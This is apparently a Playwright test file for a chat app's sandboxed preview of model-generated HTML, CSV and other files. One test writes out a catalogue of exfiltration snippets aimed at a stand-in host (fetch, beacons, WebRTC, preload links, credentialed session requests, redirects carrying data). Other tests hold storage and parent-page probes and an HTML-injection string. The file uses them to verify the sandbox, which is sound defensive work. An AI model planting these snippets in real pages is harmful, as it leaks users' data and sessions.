// What the model made, beside the chat: shown as what it is, and kept from everything.
import { createSocket } from "node:dgram";
import { writeFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { join } from "node:path";
import { callsTool, says } from "@margay/core/testing";
import { callsTools } from "@margay/core/internal/testing";
import type { Frame, Page } from "playwright-core";
import { expect, test, type TestContext } from "vitest";
import { answers, openBrowser, say, until } from "./support.ts";

const PAGE = `<!doctype html><title>Costs</title><body style="background:#eef"><h1>Costs</h1><p id=out>no</p>
<script>document.querySelector("#out").textContent = "ran " + (2 + 3)</script>`;

function frameOf(page: Page): Frame {
  const found = page.frames().find((frame) => frame.url().endsWith("/assets/preview.html"));
  if (found === undefined) throw new Error("There is no preview.");
  return found;
}

async function shownText(page: Page): Promise<string> {
  await page.locator(".preview-frame").waitFor();
  return frameOf(page).locator("body").innerText();
}

test("W§13.7 a block of HTML is shown beside the chat, as a page or as code, also after a reload", async (t) => {
  const place = await openBrowser(t);
  const { page, gateway } = place;
  gateway.model.replies(says(`Here:\n\n\`\`\`html\n${PAGE}\n\`\`\`\n`));
  await say(page, "make a page");
  await page.getByRole("button", { name: "Preview", exact: true }).click();
  await until(() => shownText(page)).toContain("ran 5");
  await page.getByText("Sandboxed: no network, no access to margay").waitFor();
  await place.isClean();
  await page.reload();
  await until(() => shownText(page)).toContain("ran 5");
  await page.locator(".preview-look").getByRole("button", { name: "Code" }).click();
  await page.locator(".preview .code").getByText("document.querySelector").waitFor();
  expect(await page.locator(".preview-frame").count()).toBe(0);
  await place.isClean();
});

test("W§13.7 file-cards/MAX_CARDS a file that the agent writes has a card; its preview follows each version of it", async (t) => {
  const place = await openBrowser(t);
  const { page, gateway } = place;
  gateway.model.replies(
    callsTool("write_file", { path: "site/costs.html", content: PAGE }),
    says("It is in [the page](site/costs.html)."),
  );
  await say(page, "write it");
  const card = page.locator(".file-card");
  await card.getByText("site/costs.html").waitFor();
  await card.click();
  await until(() => shownText(page)).toContain("ran 5");
  await page.getByText("version 1", { exact: true }).waitFor();
  await page.keyboard.press("Escape");
  await page.locator(".md .file-link").click(); // the link of the answer leads to the same
  await until(() => shownText(page)).toContain("ran 5");
  gateway.model.replies(
    callsTool("edit_file", { path: "site/costs.html", old_text: "2 + 3", new_text: "40 + 2" }),
    says("Changed."),
  );
  await say(page, "change it");
  await page.getByText("version 2", { exact: true }).waitFor();
  await until(() => shownText(page)).toContain("ran 42");
  await until(() => page.locator(".file-card .badge").allInnerTexts()).toContain("v2");
  const many = Array.from({ length: 9 }, (_, n) => ({
    name: "write_file",
    args: { path: `n${String(n)}.csv`, content: "a,b\n" },
  }));
  gateway.model.replies(callsTools(many), says("Nine."));
  await say(page, "and nine tables");
  await until(() => page.locator(".file-cards").last().locator("li").count()).toBe(8);
  await place.isClean();
});

test("W§13.7 preview-page/MAX_SHOWN_BYTES csv/MAX_ROWS csv/MAX_COLUMNS tables, pictures, texts, and what cannot be shown", async (t) => {
  const place = await openBrowser(t, { expected: ["404"] });
  const { page, gateway } = place;
  const { workspace } = gateway;
  const files: readonly (readonly [string, string | Buffer])[] = [
    ["prices.csv", 'Name,Price\n"Soil, and ""seeds""",168\n<img src=x onerror=1>,143\n'],
    ["long.csv", `${Array.from({ length: 120 }, (_, n) => `c${String(n)}`).join(",")}\n${"1,2\n".repeat(1_200)}`],
    ["read.md", "# Title\n\n**bold** <b>raw</b>"],
    ["sign.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text y="8">hi</text></svg>'],
    ["data.bin", Buffer.from([1, 0, 2])],
    ["large.html", `<p>${"x".repeat(2_000_001)}</p>`],
  ];
  for (const [name, content] of files) writeFileSync(join(workspace, name), content);
  gateway.model.replies(
    says(files.map(([name]) => `[${name}](${name})`).join(" ") + " [gone](gone.html) [up](../x.html)"),
  );
  await say(page, "show");
  await until(() => page.locator(".file-link").allInnerTexts()).toEqual([...files.map(([name]) => name), "gone"]);
  const open = (name: string): Promise<void> => page.locator(".file-link", { hasText: name }).click();
  await open("prices.csv");
  await until(() => page.locator(".preview-sheet td").allInnerTexts()).toEqual([
    'Soil, and "seeds"',
    "168",
    "<img src=x onerror=1>",
    "143",
  ]);
  await place.isClean();
  await open("long.csv");
  await page.getByText("The first 1,000 of 1,200 rows").waitFor();
  expect(await page.locator(".preview-sheet tbody tr").count()).toBe(1_000);
  expect(await page.locator(".preview-sheet th").count()).toBe(100);
  await open("read.md");
  await page.locator(".preview .md strong").getByText("bold").waitFor();
  await open("sign.svg");
  await until(() => shownText(page)).toContain("hi");
  await open("data.bin");
  await page.getByText("This is no text. It can be downloaded.").waitFor();
  await open("large.html");
  await page.getByText(/This file has 2(\.0)? MB/).waitFor();
  await open("gone");
  await page.locator(".panel .note-box.danger").getByText("media.not-found").waitFor();
  await place.isClean();
});

interface Reach {
  readonly tcp: number;
  readonly udp: number;
  /** What came over any of them. */
  readonly hits: readonly string[];
}

/** Two doors of somebody else. */
async function listening(t: TestContext): Promise<Reach> {
  const hits: string[] = [];
  const udp = createSocket("udp4").on("message", () => hits.push("udp"));
  const tcp = createServer((socket) => {
    hits.push("tcp");
    socket.on("error", () => undefined).destroy();
  });
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  t.onTestFinished(() => {
    udp.close();
    tcp.close();
  });
  return { tcp: (tcp.address() as AddressInfo).port, udp: udp.address().port, hits };
}

const RTC = `p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:{U}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`;

/** `{W}` is the address of somebody else, `{U}` their UDP port, `{G}` this gateway. All of these stand in one page. */
const REQUESTS = [
  `<script>fetch("{W}").catch(() => 0)</script>`,
  `<script>fetch("{G}/api/v1/sessions", { credentials: "include" }).catch(() => 0)</script>`,
  `<script>x=new XMLHttpRequest();x.open("GET","{W}");x.send()</script>`,
  `<script>navigator.sendBeacon("{W}","x")</script>`,
  `<script>try{new WebSocket("{W}".replace("http","ws"))}catch{}</script>`,
  `<script>try{new EventSource("{W}")}catch{}</script>`,
  `<script>try{new WebTransport("{W}".replace("http","https"))}catch{}</script>`,
  `<script>try{${RTC}}catch{}</script>`,
  `<img src="{W}/i.png"><img srcset="{W}/i2.png 2x"><input type=image src="{W}/i3">`,
  `<style>@import "{W}/a.css";body{background:url("{W}/b.png")}@font-face{font-family:x;src:url("{W}/f.woff")}p{font-family:x}</style>`,
  `<p style="background:url({W}/c.png)">x</p><link rel=stylesheet href="{W}/s.css">`,
  `<link rel=preconnect href="{W}"><link rel=dns-prefetch href="{W}"><link rel=prefetch href="{W}/p">`,
  `<link rel=preload as=image href="{W}/q"><link rel=modulepreload href="{W}/m.js"><link rel=icon href="{W}/i.ico">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{W}/x"]}],"prerender":[{"source":"list","urls":["{W}/x"]}]}</script>`,
  `<script src="{W}/x.js"></script><script type=module src="{W}/y.js"></script>`,
  `<video src="{W}/v"></video><audio src="{W}/a"></audio><object data="{W}/o"></object><embed src="{W}/e">`,
  `<svg><image href="{W}/i"/><use href="{W}/u#x"/><foreignObject><iframe src="{W}/f"></iframe></foreignObject><script href="{W}/s"></script></svg>`,
  `<a id=a href="#x" ping="{W}">x</a><script>a.click()</script>`,
  `<base href="{W}/"><img src="i.png">`,
  `<script>try{navigator.serviceWorker.register("{G}/sw.js").catch(() => 0)}catch{}</script>`,
  `<script>try{new Worker("{W}/w.js")}catch{}</script>`,
  `<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('{W}')"])))}catch{}</script>`,
  `<iframe src="{G}/"></iframe><iframe srcdoc='<script>location="{W}"</script>'></iframe>`,
  `<form id=f action="{W}" method=post><input name=a></form><script>f.submit()</script>`,
  `<script>open("{W}");try{top.location="{W}"}catch{}</script>`,
];

/** Each of these ends its page. */
const LEAVES = [
  `<script>location="{W}?data"</script>`,
  `<meta http-equiv=refresh content="0;url={W}">`,
  `<a id=a href="{W}">x</a><script>a.click()</script>`,
  `<iframe srcdoc='<script>${RTC}</script>'></iframe>`, // chromium ends the process of the frame
];

test("W§13.7 UI9 a previewed page reaches nothing: no host, no port, not this gateway, not the page around it", async (t) => {
  const reach = await listening(t);
  const place = await openBrowser(t, { whole: true, expected: [""] }); // each attack is refused on the console
  const { gateway, context } = place;
  const file = join(gateway.workspace, "attack.html");
  const address = `${place.origin}/?p=preview/file/attack.html`;
  const host = `http://127.0.0.1:${String(reach.tcp)}`;
  const attack = async (html: string): Promise<Page> => {
    const body = html.replaceAll("{W}", host).replaceAll("{U}", String(reach.udp)).replaceAll("{G}", place.origin);
    writeFileSync(
      file,
      `${body}<script>setTimeout(() => parent.postMessage({ fault: "that was all" }, "*"), 100)</script>`,
    );
    const page = await context.newPage();
    const crashed = page.waitForEvent("crash", { timeout: 0 }).catch(() => undefined);
    // Where a navigation was refused, a page of the browser itself says so.
    const refused = page
      .waitForEvent("framenavigated", { predicate: (frame) => frame.url().startsWith("chrome-error:"), timeout: 0 })
      .catch(() => undefined);
    await page.goto(address);
    const told = page
      .getByText(/that was all|The page did not answer/)
      .waitFor()
      .catch(() => undefined);
    await Promise.race([told, crashed, refused]);
    return page;
  };
  const page = await attack(REQUESTS.join(""));
  expect(reach.hits).toEqual([]);
  expect(page.url()).toBe(address);
  expect(context.pages()).toHaveLength(2);
  expect(
    page
      .frames()
      .filter((frame) => /^https?:/.test(frame.url()))
      .map((frame) => new URL(frame.url()).pathname),
  ).toEqual(["/", "/assets/preview.html"]);
  await page.close();
  // A browser that does not know the header has the policy of the page, which holds all but navigations and WebRTC.
  await context.route("**/assets/preview.html", async (route) => {
    const answer = await route.fetch();
    const { "connection-allowlist": _unknown, ...headers } = answer.headers();
    await route.fulfill({ response: answer, headers });
  });
  const older = await attack(REQUESTS.filter((html) => !html.includes("iframe")).join(""));
  expect(reach.hits).toEqual([]);
  await older.close();
  await context.unroute("**/assets/preview.html");
  for (const html of LEAVES) {
    const left = await attack(html);
    expect([html, reach.hits]).toEqual([html, []]);
    expect([html, left.url()]).toEqual([html, address]);
    await left.close();
  }
});

test("W§13.7 a previewed page has an origin of its own: it reads neither the page around it nor any storage", async (t) => {
  const place = await openBrowser(t);
  const { page, gateway } = place;
  const probes = [
    "parent.document.title",
    "top.localStorage.length",
    "localStorage.length",
    "sessionStorage.length",
    "document.cookie",
    "indexedDB.open('x').readyState + (() => { throw new Error('opened') })()",
    "parent.location.href",
    "frameElement.id",
  ];
  const html = `<pre id=out></pre><script>const said = [${probes.map((code) => `() => ${code}`).join(",")}].map((probe) => { try { return String(probe()) } catch { return "refused" } }); out.textContent = origin + ": " + said.join(" ")</script>`;
  writeFileSync(join(gateway.workspace, "own.html"), html);
  await page.goto(`${place.origin}/?p=preview/file/own.html`);
  await until(() => shownText(page)).toBe(`null: ${probes.map(() => "refused").join(" ")}`);
  // Opened by itself it has no other origin.
  const { headers } = await fetch(`${place.origin}/assets/preview.html`);
  expect(headers.get("content-security-policy")).toMatch(/^sandbox allow-scripts; default-src 'none'/);
  expect(headers.get("connection-allowlist")).toBe("()");
  const alone = await place.context.newPage();
  await alone.goto(`${place.origin}/assets/preview.html`);
  expect(await alone.evaluate(() => origin)).toBe("null");
  await alone.close();
  await place.isClean();
});

test("frame/MAX_MESSAGES frame/MAX_FAULT_CHARS a page that floods, loops or fails is told of, and the chat goes on", async (t) => {
  const place = await openBrowser(t, { whole: true, expected: ["broken"] });
  const { page, gateway } = place;
  const file = join(gateway.workspace, "bad.html");
  const show = async (html: string): Promise<void> => {
    writeFileSync(file, html);
    await page.goto(`${place.origin}/?p=preview/file/bad.html`);
  };
  await show(`<script>for (let n = 0; n < 20000; n++) parent.postMessage({ fault: "x" }, "*")</script>`);
  await page.getByText("The page sent messages without end and was stopped.").waitFor();
  expect(await page.locator(".preview-frame").count()).toBe(0);
  await show(`<script>throw new Error("broken " + "y".repeat(900))</script>`);
  const fault = page.locator(".preview .note-box").getByText(/A script of the page failed: .*broken y/);
  await fault.waitFor();
  expect((await fault.innerText()).length).toBeLessThan(400);
  await show(`<script>setTimeout(() => { for (;;) ; }, 50)</script>`);
  await page.getByText("The page did not answer for 5 seconds and was stopped.").waitFor();
  gateway.model.replies(says("still here"));
  await say(page, "and you?");
  await until(() => answers(page)).toEqual(["still here"]);
  await page.getByRole("button", { name: "Run it again" }).waitFor();
  await place.isClean();
});
